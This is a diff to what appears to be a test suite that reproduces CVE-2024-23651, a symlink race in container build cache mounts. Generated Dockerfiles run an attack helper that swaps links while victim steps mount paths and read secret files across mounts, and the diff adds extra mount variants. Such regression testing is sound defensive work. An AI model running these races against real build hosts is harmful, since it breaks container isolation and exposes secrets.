@@ -23,7 +23,7 @@ RUN --mount=type=cache,target=/c,id=race cd /c && rm -rf a b stop && mkdir a && 
 FROM flip AS flipping
 RUN --mount=type=cache,target=/c,id=race /attack flip /c/a /c/b /c/stop && touch /done
 FROM flip AS victim
-${Array.from({ length: 6 }, (_, i) => `RUN --mount=type=cache,target=/c,id=race ${mounts} sh -c '${script}; true' # ${i}`).join('\n')}
+${Array.from({ length: 6 }, (_, i) => `RUN --mount=type=cache,target=/c,id=race ${mounts} sh -c '${script}; true'`.replaceAll('%', String(i))).join('\n')}
 RUN --mount=type=cache,target=/c,id=race echo > /c/stop && touch /over
 FROM base
 COPY --from=flipping /done /
@@ -47,7 +47,7 @@ attackInModes('CVE-2024-23651', 'a step that exchanges links in a cache while an
   attackCache(
     t,
     mode,
-    '--mount=type=bind,source=f,target=/c/a/f --mount=type=cache,id=inner,target=/c/a/sub',
+    '--mount=type=bind,source=f,target=/c/a/f% --mount=type=cache,id=inner,target=/c/a/sub --mount=type=tmpfs,target=/c/a/d%/x --mount=type=tmpfs,target=/c/a/e%',
     'cat /c/a/secret /c/b/secret; echo > /c/a/new',
   ),
 )
@@ -68,7 +68,7 @@ RUN ${cache} cd /c && rm -rf a b stop && mkdir a && ln -s ${dir} b && echo flipp
   await flip.until(/^#\d+ [\d.]+ flipping-now/m)
   const victim = build(
     mode,
-    `FROM ${image}\nRUN ${cache} --mount=type=tmpfs,target=/c/a/sub --mount=type=bind,target=/c/a/ctx true\n`,
+    `FROM ${image}\nRUN ${cache} --mount=type=tmpfs,target=/c/a/sub --mount=type=bind,target=/c/a/ctx --mount=type=tmpfs,target=/c/a/x/y true\n`,
     {},
     '--no-cache',
   )
